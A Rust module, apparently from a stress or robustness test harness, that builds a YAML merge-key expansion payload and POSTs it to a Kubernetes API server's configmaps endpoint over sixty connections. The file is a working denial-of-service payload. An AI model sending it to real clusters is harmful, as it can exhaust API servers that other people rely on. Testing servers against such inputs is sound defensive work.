//! YAML in which large maps refer to each other by merge keys, up to the limit of expansion.

use super::{Attack, Request, SIXTY};
use std::fmt::Write as _;

pub(super) const ATTACK: Attack =
    Attack { name: "merge-keys", connections: SIXTY, by_administrator: Vec::new, prepare: || Vec::new(), request };

fn request() -> Request {
    let mut body = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: many}\nx: &x {".to_owned();
    (0..1000).for_each(|at| write!(body, "k{at}: v,").unwrap());
    body.push_str("}\n");
    (0..1000).for_each(|at| writeln!(body, "y{at}: {{<<: *x}}").unwrap());
    let path = "/api/v1/namespaces/default/configmaps?dryRun=All".to_owned();
    Request { method: "POST", path, content_type: "application/yaml", body }
}
